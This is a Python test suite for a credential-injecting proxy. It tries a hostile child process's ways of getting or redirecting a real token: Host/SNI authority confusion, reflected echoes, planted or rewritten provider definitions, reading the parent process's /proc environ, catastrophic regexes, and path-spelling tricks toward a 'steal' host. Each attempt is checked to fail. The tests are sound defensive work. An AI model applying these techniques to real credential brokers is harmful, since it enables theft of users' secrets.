"""The child attacks: every way a hostile agent under `authsome run` could obtain the real credential
or steer it elsewhere, tried with real clients through the real proxy against recording servers.

Each test names the class of attack it stands for (DESIGN.md section 7, issue 8). The recording
API (tests/support/api.py) serves every name of its certificate at one address, as a shared
front end (a CDN) does, so a request that reaches it under another name shows up with that SNI.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import socket
import ssl
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from authsome.models import PLACEHOLDER, ClientCredentials, Connection
from authsome.vault import Vault
from tests.conftest import AUTHSOME, REPO, X_HOSTS, run_cli

TOKEN = "x-real-access-" + "S3cr3t" * 5
ACME_KEY = "acme-real-key-" + "K3y" * 8

pytestmark = pytest.mark.invariant


def run(args, env, **kw):
    return run_cli(["run", *args], env=env, **kw)


def child(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


# A raw client inside the child: CONNECT through HTTPS_PROXY, then TLS (or not) and one request as
# written, so a test can send what ordinary clients never would.
RAW = '''
import base64, json, os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
AUTH = "Basic " + base64.b64encode(f"{proxy.username}:{urllib.parse.unquote(proxy.password)}".encode()).decode()

def tunnel(target, *, tls=True, sni=True):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\nProxy-Authorization: {AUTH}\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        head += s.recv(1)
    assert b" 200 " in head.split(b"\\r\\n")[0], head
    if not tls:
        return s
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    if not sni:
        ctx.check_hostname = False
    return ctx.wrap_socket(s, server_hostname=target.rsplit(":", 1)[0] if sni else None)

def exchange(s, raw: bytes) -> bytes:
    s.sendall(raw)
    out = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            return out
        out += chunk
'''


def raw_child(code: str) -> list[str]:
    return child(RAW + textwrap.dedent(code))


@pytest.fixture
def x_connected(home):
    Vault.open().put_connection(Connection(provider="x", access_token=TOKEN, refresh_token="r-" + TOKEN,
                                           expires_at=time.time() + 3600, scopes=("tweet.read",)))


@pytest.fixture
def acme_key(cli, tmp_path, home):
    """An API-key provider for api.acme.test (header X-Api-Key), logged in the way a user does."""
    def make(**changes) -> dict:
        definition = {"name": "acme", "display_name": "Acme", "auth_type": "api_key", "flow": "api_key",
                      "api_key": {"header_name": "X-Api-Key", "header_prefix": ""},
                      "api_url": "api.acme.test", "export": {"api_key": "ACME_API_KEY"}, **changes}
        (tmp_path / "acme.json").write_text(json.dumps(definition))
        assert cli(["register", str(tmp_path / "acme.json")]).code == 0
        login = cli(["login", "acme"], input=ACME_KEY)
        assert login.code == 0, login.err
        return definition

    return make


@pytest.fixture
def acme_oauth(oauth, cli, tmp_path, home):
    """An OAuth provider for api.acme.test whose tokens (and refreshes) come from the X stand-in."""
    definition = json.loads(cli(["inspect", "x"]).out)
    definition.update(name="acmeoauth", display_name="Acme OAuth", api_url="api.acme.test",
                      export={"access_token": "ACMEOAUTH_ACCESS_TOKEN"})
    definition.pop("user_info")  # X's user endpoint is not on these routes
    (tmp_path / "acmeoauth.json").write_text(json.dumps(definition))
    assert cli(["register", str(tmp_path / "acmeoauth.json")]).code == 0
    tokens = oauth.issue()
    vault = Vault.open()
    vault.put_client(ClientCredentials(provider="acmeoauth", client_id="confidential-basic", client_secret="basic-secret"))
    vault.put_connection(Connection(provider="acmeoauth", access_token=tokens["access_token"],
                                    refresh_token=tokens["refresh_token"], expires_at=time.time() + 600))
    return tokens


def oauth_resolve(oauth) -> list[str]:
    return [a for h in X_HOSTS for a in ("--resolve", f"{h}:443:127.0.0.1:{oauth.port}")]


def no_token_reached(api, *tokens: str) -> bool:
    seen = api.everything_seen()
    return all(t and t not in seen for t in tokens)


# -- 1. Authority confusion: every name of a request must be the CONNECT target ------------------------

CONFUSED = {
    "curl-http1": ["curl", "-sS", "--http1.1", "-o", "/dev/null", "-w", "%{http_code}"],
    "curl-http2": ["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_code}"],
}


@pytest.mark.parametrize("client", ["curl-http1", "curl-http2", "httpx-http2"])
def test_a_request_naming_another_host_gets_421_and_no_token_nor_a_refreshed_one(
        client, oauth, api, acme_oauth, trusting_env):
    """Host (HTTP/1) or :authority (HTTP/2) names another name the API's address serves; the spoiled
    placeholder gets a 401, and the old re-send after the refresh took its TLS name from that header."""
    spoiled = f"Authorization: Bearer {PLACEHOLDER}x"
    url = "https://api.acme.test/status/401"
    if client == "httpx-http2":
        command = child(f'''
            import httpx
            with httpx.Client(http2=True) as c:
                print(c.get("{url}", headers={{"Host": "other.test", "Authorization": "Bearer {PLACEHOLDER}x"}}).status_code)''')
    else:
        command = [*CONFUSED[client], "-H", "Host: other.test", "-H", spoiled, url]
    r = run([*oauth_resolve(oauth), *api.resolve("api.acme.test"), "--", *command], trusting_env)
    stored = Vault.open().get_connection("acmeoauth")
    assert no_token_reached(api, acme_oauth["access_token"], stored.access_token)
    assert oauth.stats()["grants"].get("refresh_token") is None  # nothing was refreshed for it either
    assert r.out.strip() == "421", r.err


def test_an_absolute_form_target_naming_another_host_gets_421(api, acme_key, trusting_env):
    acme_key()
    r = run([*api.resolve("api.acme.test"), "--", *raw_child(f'''
        s = tunnel("api.acme.test:443")
        print(exchange(s, b"GET https://other.test/echo HTTP/1.1\\r\\nHost: api.acme.test\\r\\n"
                          b"X-Api-Key: {PLACEHOLDER}\\r\\nConnection: close\\r\\n\\r\\n").split(b"\\r\\n")[0].decode())
    ''')], trusting_env)
    assert no_token_reached(api, ACME_KEY)
    assert " 421 " in r.out, r.err


def test_a_tls_server_name_other_than_the_connect_target_gets_421(api, acme_key, trusting_env):
    acme_key()
    r = run([*api.resolve("api.acme.test"), "--", "curl", "-sS", "-k", "-o", "/dev/null", "-w", "%{http_code}",
             "--connect-to", "other.test:443:api.acme.test:443", "-H", f"X-Api-Key: {PLACEHOLDER}",
             "https://other.test/echo"], trusting_env)
    assert r.out == "421", r.err
    assert api.seen == [] and no_token_reached(api, ACME_KEY)


def test_a_client_without_sni_but_the_right_host_is_served(api, acme_key, trusting_env):
    """Go programs with their own TLS config (hey) send no server name."""
    acme_key()
    r = run([*api.resolve("api.acme.test"), "--", *raw_child('''
        s = tunnel("api.acme.test:443", sni=False)
        names = [v for k, v in s.getpeercert()["subjectAltName"]]
        reply = exchange(s, b"GET /echo HTTP/1.1\\r\\nHost: api.acme.test\\r\\nConnection: close\\r\\n\\r\\n")
        print(json.dumps({"names": names, "status": reply.split(b"\\r\\n")[0].decode()}))
    ''')], trusting_env)
    out = json.loads(r.out)
    assert out["names"] == ["api.acme.test"] and " 200 " in out["status"], r.err  # no IP address in the leaf
    assert api.seen[0]["sni"] == "api.acme.test" and api.seen[0]["headers"]["x-api-key"] == ACME_KEY


# -- 2. Only the declared slots are filled, and nothing comes back ---------------------------------------

ECHO_CLIENTS = {
    "curl": lambda url: ["sh", "-c", f'curl -sS -i --compressed -H "Authorization: Bearer $X_ACCESS_TOKEN" '
                                     f'-H "X-Trace: $X_ACCESS_TOKEN" -H "Origin: https://$X_ACCESS_TOKEN.test" "{url}"'],
    "requests": lambda url: child(f'''
        import os, requests
        p = os.environ["X_ACCESS_TOKEN"]
        r = requests.get("{url}", headers={{"Authorization": "Bearer " + p, "X-Trace": p, "Origin": f"https://{{p}}.test"}})
        print(r.status_code, dict(r.headers), r.text)'''),
    "httpx": lambda url: child(f'''
        import os, httpx
        p = os.environ["X_ACCESS_TOKEN"]
        r = httpx.get("{url}", headers={{"Authorization": "Bearer " + p, "X-Trace": p, "Origin": f"https://{{p}}.test"}})
        print(r.status_code, dict(r.headers), r.text)'''),
}


@pytest.mark.parametrize("client", list(ECHO_CLIENTS))
@pytest.mark.parametrize("path", ["/reflect", "/reflect?encoding=gzip", "/reflect?chunk=7", "/reflect?status=401"],
                         ids=["plain", "gzip", "streamed-in-7-byte-chunks", "in-a-401"])
def test_an_api_that_echoes_the_request_hands_back_only_the_placeholder(client, path, api, x_connected, trusting_env):
    r = run([*api.resolve("api.twitter.com"), "--", *ECHO_CLIENTS[client](f"https://api.twitter.com{path}")],
            trusting_env)
    assert r.code == 0, r.err
    headers = api.seen[0]["headers"]
    assert headers["authorization"] == f"Bearer {TOKEN}"  # the declared slot got it
    assert headers["x-trace"] == PLACEHOLDER and PLACEHOLDER in headers["origin"]  # nothing else did
    assert TOKEN not in r.out and PLACEHOLDER in r.out


@pytest.mark.slow
def test_an_http2_api_that_echoes_the_token_hands_back_only_the_placeholder(acme_key, trusting_env, test_ca, tmp_path):
    """HTTP/2 on both sides: the head is serialized by mitmproxy's HTTP/2 client layer, the echo is scrubbed."""
    from tests.support.tls import make_leaf

    acme_key(api_url="api.h2.test", api_key={"header_name": "Authorization", "header_prefix": "Bearer"})
    leaf = make_leaf(test_ca, tmp_path, ["api.h2.test"], stem="h2")
    record = tmp_path / "seen.jsonl"
    server = subprocess.Popen([sys.executable, str(REPO / "tests" / "servers" / "h2api.py"), str(leaf.cert), str(leaf.key),
                               str(record), "never-refused"], stdout=subprocess.PIPE, text=True)
    try:
        port = int(server.stdout.readline().split()[1])
        r = run(["--resolve", f"api.h2.test:443:127.0.0.1:{port}", "--", "curl", "-sS", "--http2",
                 "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://api.h2.test/v1/me"], trusting_env)
    finally:
        server.kill()
        server.wait()
    [seen] = [json.loads(line) for line in record.read_text().splitlines()]
    assert seen["http_version"] == "2" and seen["authorization"] == f"Bearer {ACME_KEY}"
    assert json.loads(r.out)["authorization"] == f"Bearer {PLACEHOLDER}" and ACME_KEY not in r.out


@pytest.mark.parametrize("wrapper", ["a:", "ab:", "abc:"])
def test_a_placeholder_inside_an_encoding_the_child_chose_is_never_filled(api, x_connected, trusting_env, wrapper):
    """`Basic b64(a:placeholder)` in the Bearer slot: an echo would be base64 that decodes to the token."""
    r = run([*api.resolve("api.twitter.com"), "--", *child(f'''
        import base64, requests
        sent = "Basic " + base64.b64encode(b"{wrapper}{PLACEHOLDER}").decode()
        echo = requests.get("https://api.twitter.com/reflect", headers={{"Authorization": sent}}).headers["X-Echo-Authorization"]
        print(base64.b64decode(echo.split()[1]).decode(errors="replace"))''')], trusting_env)
    assert r.code == 0, r.err
    assert TOKEN not in r.out and TOKEN not in api.everything_seen()


@contextlib.contextmanager
def raw_api(test_ca, tmp_path, reply):
    """A one-shot HTTPS server for api.twitter.com answering `reply(authorization header)` as raw bytes;
    yields the --resolve arguments that send api.twitter.com to it."""
    import threading

    from tests.support.tls import make_leaf

    leaf = make_leaf(test_ca, tmp_path, ["api.twitter.com"], stem="raw")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(leaf.cert, leaf.key)
    listener = socket.create_server(("127.0.0.1", 0))

    def serve():
        conn, _ = listener.accept()
        with ctx.wrap_socket(conn, server_side=True) as s:
            head = b""
            while b"\r\n\r\n" not in head:
                head += s.recv(65536)
            auth = next(line.split(b":", 1)[1].strip() for line in head.split(b"\r\n")
                        if line.lower().startswith(b"authorization:"))
            s.sendall(reply(auth))
            time.sleep(0.5)

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield ["--resolve", f"api.twitter.com:443:127.0.0.1:{listener.getsockname()[1]}"]
    finally:
        listener.close()


def _gzip_transfer_coded(auth: bytes) -> bytes:
    body = gzip.compress(auth)
    return b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n"


UNUSUAL = {
    "malformed": lambda auth: b"HTTP/1.1 200 OK\r\nX-Fine: 1\r\n" + auth + b"\r\n\r\n",  # mitmproxy's 502 quoted it
    "reason": lambda auth: b"HTTP/1.1 401 " + auth + b"\r\nContent-Length: 0\r\n\r\n",
    "header-name": lambda auth: b"HTTP/1.1 200 OK\r\nX-" + auth.replace(b" ", b"-") + b": 1\r\nContent-Length: 0\r\n\r\n",
    "trailer": lambda auth: (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n"
                            b"2\r\nok\r\n0\r\nX-Echo: " + auth + b"\r\n\r\n"),
    "transfer-coding": _gzip_transfer_coded,
    "upgrade": lambda auth: b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: foo\r\nConnection: Upgrade\r\n\r\n" + auth,
}


@pytest.mark.parametrize("where", list(UNUSUAL))
def test_echoes_in_unusual_places_are_scrubbed_or_refused(where, x_connected, trusting_env, test_ca, tmp_path):
    """A raw server quoting what it got in a malformed header line, the reason phrase, a header name, a trailer of
    a streamed body, a gzip transfer-coding the client asked for with TE, or the bytes after a protocol switch."""
    with raw_api(test_ca, tmp_path, UNUSUAL[where]) as resolve:
        r = run([*resolve, "--", "sh", "-c",
                 'curl -sS -i --raw --tr-encoding -m 10 -H "TE: gzip" -H "Authorization: Bearer $X_ACCESS_TOKEN" '
                 'https://api.twitter.com/x; true'], trusting_env, timeout=60)
    assert TOKEN not in r.out + r.err


ENCODED = {
    "gzip-of-two-members": lambda auth: (gzip.compress(b"ok ") + gzip.compress(auth), b"gzip"),
    "base64": lambda auth: (base64.b64encode(auth), b"base64"),
}


@pytest.mark.parametrize("encoding", list(ENCODED))
def test_a_body_is_searched_exactly_as_clients_decode_it(encoding, x_connected, trusting_env, test_ca, tmp_path):
    """mitmproxy decodes one gzip member where clients read them all, and 'base64' where clients decode nothing."""
    def reply(auth: bytes) -> bytes:
        body, coding = ENCODED[encoding](auth)
        return b"HTTP/1.1 200 OK\r\nContent-Encoding: " + coding + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body

    with raw_api(test_ca, tmp_path, reply) as resolve:
        r = run([*resolve, "--", *child('''
            import base64, requests
            r = requests.get("https://api.twitter.com/x", headers={"Authorization": "Bearer authsome-proxy-managed"})
            print(r.status_code, r.text)
            try:
                print(base64.b64decode(r.content).decode(errors="replace"))
            except Exception:
                pass''')], trusting_env, timeout=60)
    assert TOKEN not in r.out + r.err, r.out


def test_a_token_endpoint_that_quotes_the_refresh_token_hands_the_child_nothing(api, cli, tmp_path, trusting_env):
    definition = {"name": "acmetok", "display_name": "Acme", "auth_type": "oauth2", "flow": "pkce",
                  "oauth": {"authorization_url": "https://api.acme.test/authorize", "token_url": "https://api.acme.test/oauth-echo",
                            "scopes": []},
                  "api_url": "api.acme.test", "export": {"access_token": "ACMETOK_ACCESS_TOKEN"}}
    (tmp_path / "acmetok.json").write_text(json.dumps(definition))
    assert cli(["register", str(tmp_path / "acmetok.json")]).code == 0
    vault = Vault.open()
    vault.put_client(ClientCredentials(provider="acmetok", client_id="cid", client_secret="client-secret-" + "Z" * 20))
    vault.put_connection(Connection(provider="acmetok", access_token=TOKEN, refresh_token="refresh-" + TOKEN,
                                    expires_at=time.time() - 5))
    r = run([*api.resolve("api.acme.test"), "--", "curl", "-sS", "https://api.acme.test/echo"], trusting_env)
    assert "could not refresh" in r.err  # the warning came, without what the server quoted
    assert "refresh-" + TOKEN not in r.err and "client-secret-" not in r.err and "Y2lk" not in r.err


def test_a_definition_planted_before_the_first_login_does_not_get_the_key(cli, home):
    """The agent writes providers/openai.json (the bundled one plus its own host); the user logs in later."""
    OPENAI_KEY = "sk-" + "k" * 40
    planted = json.loads(cli(["inspect", "openai"]).out)
    planted["api_url"] = [planted["api_url"]] if isinstance(planted["api_url"], str) else planted["api_url"]
    planted["api_url"].append("other.test")
    (home / "providers").mkdir(parents=True, exist_ok=True)
    (home / "providers" / "openai.json").write_text(json.dumps(planted))
    login = cli(["login", "openai"], input=OPENAI_KEY)
    assert login.code == 3 and "never confirmed" in login.err and "other.test" in login.err
    assert not (home / "vault" / "openai").exists()
    (home / "providers" / "openai.json").write_text(cli(["inspect", "openai"]).out)  # still the planted one
    assert cli(["login", "openai"], input=OPENAI_KEY).code == 3
    (home / "providers" / "openai.json").unlink()
    (home / "providers" / "openai.json").write_text(json.dumps(json.loads(cli(["inspect", "openai"]).out)))
    assert cli(["login", "openai"], input=OPENAI_KEY).code == 0  # a copy of the bundled one needs no confirmation


def test_a_websocket_handshake_and_its_messages_hand_back_only_the_placeholder(api, x_connected, trusting_env):
    r = run([*api.resolve("api.twitter.com"), "--", *child(f'''
        import asyncio, os, aiohttp
        async def main():
            async with aiohttp.ClientSession() as s:  # aiohttp takes no proxy from the env for wss://
                async with s.ws_connect("wss://api.twitter.com/ws", protocols=["{PLACEHOLDER}"], proxy=os.environ["HTTPS_PROXY"],
                                        headers={{"Authorization": "Bearer {PLACEHOLDER}"}}, autoping=False) as ws:
                    print(ws.protocol)
                    print((await ws.receive()).data)
                    print("ping", (await ws.receive()).data.decode())
                    close = await ws.receive()
                    print("close", close.extra)
        asyncio.run(main())''')], trusting_env)
    assert r.code == 0, r.err
    seen = api.seen[0]["headers"]
    assert seen["sec-websocket-protocol"] == PLACEHOLDER and seen["authorization"] == f"Bearer {TOKEN}"
    assert r.out.splitlines() == [PLACEHOLDER, f"you sent Authorization: Bearer {PLACEHOLDER}",
                                  f"ping Bearer {PLACEHOLDER}", f"close Bearer {PLACEHOLDER}"]


def test_a_slot_sent_many_times_is_refused_not_filled_many_times(api, x_connected, trusting_env):
    r = run([*api.resolve("api.twitter.com"), "--", *child(f'''
        import http.client, os, ssl, urllib.parse, base64
        p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
        c = http.client.HTTPSConnection(p.hostname, p.port, context=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]))
        c.set_tunnel("api.twitter.com", 443, headers={{"Proxy-Authorization": "Basic " + base64.b64encode(
            f"{{p.username}}:{{urllib.parse.unquote(p.password)}}".encode()).decode()}})
        c.putrequest("GET", "/2/users/me")
        for _ in range(200):
            c.putheader("Authorization", "Bearer {PLACEHOLDER}")
        c.endheaders()
        r = c.getresponse()
        print(r.status, r.read().decode().strip())''')], trusting_env)
    assert r.out.startswith("400 authsome: the Authorization header appears more than once"), r.err
    assert api.seen == []


# -- 3, 4. Requests without CONNECT, and a corporate proxy's credentials ----------------------------------

def test_deny_unmatched_refuses_an_absolute_form_request_to_another_host(api, x_connected, trusting_env):
    r = run(["--deny-unmatched", *api.resolve("other.test"), "--", *child('''
        import base64, os, socket, urllib.parse
        p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
        auth = base64.b64encode(f"{p.username}:{urllib.parse.unquote(p.password)}".encode()).decode()
        s = socket.create_connection((p.hostname, p.port))
        s.sendall(f"GET https://other.test/echo HTTP/1.1\\r\\nHost: other.test\\r\\nProxy-Authorization: Basic {auth}\\r\\n"
                  "Connection: close\\r\\n\\r\\n".encode())
        print(s.recv(200).split(b"\\r\\n")[0].decode())''')], trusting_env)
    assert " 403 " in r.out, r.err
    assert api.seen == []


def test_a_corporate_proxys_password_never_travels_inside_a_tunnel(api, x_connected, trusting_env):
    """Plain HTTP inside a CONNECT tunnel goes through the corporate proxy to the destination in clear."""
    from tests.support.corp_proxy import CorpProxy

    corp = CorpProxy({"api.twitter.com": ("127.0.0.1", api.plain_port)}, credentials=("corp-user", "corp-Pa55"))
    try:
        env = {**trusting_env, "HTTPS_PROXY": f"http://corp-user:corp-Pa55@127.0.0.1:{corp.port}"}
        r = run(["--", *raw_child('''
            s = tunnel("api.twitter.com:443", tls=False)
            print(exchange(s, b"GET /echo HTTP/1.1\\r\\nHost: api.twitter.com\\r\\nConnection: close\\r\\n\\r\\n")
                  .split(b"\\r\\n")[0].decode())''')], env)
    finally:
        corp.close()
    assert " 200 " in r.out, r.err
    assert corp.connects and all(authed for _, authed in corp.connects)  # the CONNECT itself carried them
    assert "proxy-authorization" not in api.seen[0]["headers"] and "corp-Pa55" not in api.everything_seen()


# -- 5. authsome's own process ------------------------------------------------------------------------------

def test_the_child_finds_no_secret_in_authsomes_environment_block(api, master_key, x_connected, trusting_env):
    env = {**trusting_env, "X_CLIENT_SECRET": "client-secret-value-123"}
    r = run(["--", "sh", "-c", "tr '\\0' '\\n' < /proc/$PPID/environ"], env)
    assert r.code == 0, r.err
    assert "AUTHSOME_MASTER_KEY=" in r.out  # still named there (the value is zeroed), so the block was read
    assert master_key not in r.out and "client-secret-value-123" not in r.out


def test_a_process_of_the_same_user_cannot_read_a_protected_process():
    """The kernel side, as an unprivileged user (root reads everything): non-dumpable, environment zeroed."""
    script = textwrap.dedent(f'''
        import os, subprocess, sys
        sys.path.insert(0, {str(REPO)!r})
        from authsome import hardening
        hardening.protect(["SECRET_FOR_TEST"])
        probe = "for f in environ mem; do head -c 64 /proc/$PPID/$f >/dev/null 2>&1 && echo $f:readable || echo $f:closed; done"
        print(subprocess.run(["sh", "-c", probe], capture_output=True, text=True).stdout.split())
    ''')
    python = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
    argv = [python, "-c", script]
    if os.geteuid() == 0:
        argv = ["runuser", "-u", "nobody", "--", *argv]
    out = subprocess.run(argv, capture_output=True, text=True, timeout=30, env={**os.environ, "SECRET_FOR_TEST": "v4lue"})
    assert out.stdout.strip() == "['environ:closed', 'mem:closed']", out.stderr


# -- 6. Definitions the child rewrites -----------------------------------------------------------------------

def test_a_definition_the_child_rewrites_is_not_used_with_the_stored_key(api, acme_key, cli, trusting_env, home):
    acme_key()
    edit = child('''
        import json, os, pathlib
        f = pathlib.Path(os.environ["AUTHSOME_HOME"]) / "providers" / "acme.json"
        d = json.loads(f.read_text()); d["api_url"] = ["api.acme.test", "other.test"]; f.write_text(json.dumps(d))''')
    assert run(["--", *edit], {**trusting_env, "AUTHSOME_HOME": str(home)}).code == 0
    steal = run([*api.resolve("other.test"), "--", "curl", "-sS", "-H", f"X-Api-Key: {PLACEHOLDER}",
                 "https://other.test/echo"], trusting_env)
    assert steal.code == 3 and "authsome trust acme" in steal.err and "api_url" in steal.err
    assert no_token_reached(api, ACME_KEY)
    review = cli(["trust", "acme"])  # no terminal here: shows the change, confirms nothing
    assert review.code == 2 and "other.test" in review.err and "needs a terminal" in review.err
    assert run(["--", "true"], trusting_env).code == 3


def test_the_seed_override_flow_needs_no_confirmation(api, x_connected, trusting_env, home):
    providers = home / "providers"
    providers.mkdir(exist_ok=True)
    r = subprocess.run(f"{' '.join(AUTHSOME)} inspect x > {providers / 'x.json'}", shell=True, cwd=REPO,
                       capture_output=True, text=True, env={**os.environ, **trusting_env})
    assert r.returncode == 0, r.stderr
    listing = run_cli(["list"], env=trusting_env)
    assert any(line.split()[:2] == ["x", "custom"] for line in listing.out.splitlines())
    done = run([*api.resolve("api.twitter.com"), "--", "curl", "-sS", "https://api.twitter.com/2/users/me"], trusting_env)
    assert done.code == 0 and api.seen[0]["headers"]["authorization"] == f"Bearer {TOKEN}"


# -- 7, 8, 9. What a definition may say ----------------------------------------------------------------------

@pytest.mark.parametrize("changes, field, reason", [
    ({"api_url": "regex:.*"}, "api_url", "literal domain"),
    ({"api_url": "regex:^.+$"}, "api_url", "literal domain"),
    ({"api_url": "regex:^.*\\.com$"}, "api_url", "literal domain"),
    ({"api_url": "regex:^[a-z]+\\.co\\.uk$"}, "api_url", "public suffix"),
    ({"api_url": "com"}, "api_url", "two or more labels"),
    ({"api_url": "127.0.0.1"}, "api_url", "IP address"),
    ({"api_url": "regex:^(?!x)[a-z]+\\.acme\\.test$"}, "api_url", "lookarounds"),
    ({"export": {"api_key": "PATH"}}, "export.api_key", "process, proxy or trust"),
    ({"export": {"api_key": "HTTPS_PROXY"}}, "export.api_key", "process, proxy or trust"),
    ({"export": {"api_key": "SSL_CERT_FILE"}}, "export.api_key", "process, proxy or trust"),
    ({"export": {"api_key": "LD_PRELOAD"}}, "export.api_key", "starts with LD_"),
    ({"export": {"api_key": "NODE_OPTIONS"}}, "export.api_key", "process, proxy or trust"),
])
def test_register_refuses_definitions_that_would_send_the_key_anywhere(cli, tmp_path, changes, field, reason):
    definition = {"name": "wide", "display_name": "Wide", "auth_type": "api_key", "flow": "api_key",
                  "api_key": {"header_name": "X-Api-Key", "header_prefix": ""},
                  "api_url": "api.acme.test", "export": {"api_key": "WIDE_API_KEY"}, **changes}
    (tmp_path / "wide.json").write_text(json.dumps(definition))
    r = cli(["register", str(tmp_path / "wide.json")])
    assert r.code == 3 and f"'{field}'" in r.err and reason in r.err


def test_a_world_covering_file_already_on_disk_is_flagged_and_never_used(cli, home, trusting_env):
    providers = home / "providers"
    providers.mkdir(parents=True, exist_ok=True)
    (providers / "wide.json").write_text(json.dumps({
        "name": "wide", "display_name": "Wide", "auth_type": "api_key", "flow": "api_key",
        "api_key": {"header_name": "X-Api-Key"}, "api_url": "regex:^[a-z0-9-]+\\.co\\.uk$",
        "export": {"api_key": "WIDE_API_KEY"}}))
    Vault.open().put_connection(Connection(provider="wide", auth_type="api_key", api_key=ACME_KEY))
    assert "public suffix" in cli(["list"]).err
    doctor = cli(["doctor"])
    assert doctor.code == 1 and "public suffix" in doctor.out
    assert run(["--connection", "wide=default", "--", "true"], trusting_env).code == 3


def test_a_catastrophic_route_pattern_never_stalls_the_proxy(api, acme_key, trusting_env):
    acme_key(api_url=["api.acme.test", "regex:^(a+)+\\.acme\\.test$"])
    evil = "a" * 40 + "b.acme.test"  # exponential for a backtracking engine
    r = run([*api.resolve("api.acme.test"), "--", "sh", "-c",
             f"curl -sS -m 20 https://{evil}/ >/dev/null 2>&1; "
             f"curl -sS -m 20 -H 'X-Api-Key: {PLACEHOLDER}' https://api.acme.test/echo"], trusting_env, timeout=60)
    assert r.code == 0, r.err
    assert api.seen[-1]["headers"]["x-api-key"] == ACME_KEY


def test_a_catastrophic_key_pattern_never_stalls_login(cli, tmp_path):
    definition = {"name": "slow", "display_name": "Slow", "auth_type": "api_key", "flow": "api_key",
                  "api_key": {"header_name": "X-Api-Key", "key_pattern": "^(a+)+$"},
                  "api_url": "api.acme.test", "export": {"api_key": "SLOW_API_KEY"}}
    (tmp_path / "slow.json").write_text(json.dumps(definition))
    assert cli(["register", str(tmp_path / "slow.json")]).code == 0
    r = cli(["login", "slow"], input="a" * 40 + "!", timeout=30)
    assert r.code == 6 and "does not look like" in r.err


# -- 10. Paths spelled the way servers read them --------------------------------------------------------------

@pytest.mark.parametrize("path", ["/2/oauth2/./token", "/2/x/../oauth2/token", "/2/oauth2/%74oken",
                                  "/2/oauth2/token;x", "/2/OAuth2/Token", "/2/oauth2/token/"])
def test_every_spelling_of_the_token_endpoint_stays_without_the_token(api, x_connected, trusting_env, path):
    r = run([*api.resolve("api.twitter.com"), "--", "curl", "-sS", "--path-as-is", "-d", "grant_type=x",
             f"https://api.twitter.com{path}"], trusting_env)
    assert r.code == 0, r.err
    assert "authorization" not in api.seen[0]["headers"]


@pytest.mark.parametrize("path", ["//other.test/steal", "https://other.test/steal", "other.test/steal"])
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_a_request_target_that_is_no_plain_path_is_refused(api, x_connected, trusting_env, path, version):
    """`//host/...`, or an HTTP/2 :path naming a host, may be read as another host by lenient front ends."""
    command = ["curl", "-sS", version, "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}",
               "-H", f"Authorization: Bearer {PLACEHOLDER}", "--request-target", path, "https://api.twitter.com/"]
    r = run([*api.resolve("api.twitter.com"), "--", *command], trusting_env)
    assert TOKEN not in api.everything_seen()
    assert r.out in ("400", "421"), r.err  # 421 when mitmproxy reads it as an absolute-form target naming other.test


@pytest.mark.parametrize("path, injected", [("/api/v4/user", True), ("/api/../explore", False),
                                            ("/api/%2e%2e/explore", False), ("/api/%252e%252e/explore", False),
                                            ("/api;x/../../explore", False)])
def test_a_path_prefix_route_holds_however_the_path_is_spelled(api, home, trusting_env, path, injected):
    Vault.open().put_connection(Connection(provider="gitlab", access_token="gitlab-" + TOKEN))
    r = run([*api.resolve("gitlab.com"), "--", "curl", "-sS", "--path-as-is", "-H", f"Authorization: Bearer {PLACEHOLDER}",
             f"https://gitlab.com{path}"], trusting_env)
    assert r.code == 0, r.err
    assert (api.seen[0]["headers"]["authorization"] == f"Bearer gitlab-{TOKEN}") is injected


# -- 11. A request edited in the debugging UI ----------------------------------------------------------------

def test_a_request_edited_in_the_web_ui_to_another_host_leaves_without_the_token(api, x_connected, trusting_env):
    """Intercept, change the host, resume: the wire checks the request again as it leaves."""
    import httpx

    waiter = child(f'''
        import sys, requests
        sys.stdin.readline()  # until the test has set up the interception
        r = requests.get("https://api.twitter.com/2/users/me", headers={{"Authorization": "Bearer {PLACEHOLDER}"}}, timeout=60)
        print(r.status_code)''')
    proc = subprocess.Popen([*AUTHSOME, "run", "--ui", "web", *api.resolve("api.twitter.com", "other.test"), "--", *waiter],
                            env={**os.environ, **trusting_env}, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        url = proc.stderr.readline().split("web UI at ")[1].strip()
        base, token = url.split("?token=")
        with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {token}"}, trust_env=False, timeout=20) as ui:
            ui.cookies.set("_mitmproxy_xsrf", "authsome-test-xsrf")  # tornado: cookie and header must agree
            xsrf = {"X-XSRFToken": "authsome-test-xsrf"}
            ui.put("/options", json={"intercept": "~q & ~u /2/users/me"}, headers=xsrf).raise_for_status()
            proc.stdin.write("\n")
            proc.stdin.flush()
            deadline = time.monotonic() + 30
            while not (held := [f for f in ui.get("/flows").json() if f.get("intercepted")]):
                assert time.monotonic() < deadline and proc.poll() is None, "the request was never intercepted"
                time.sleep(0.05)
            flow_id = held[0]["id"]
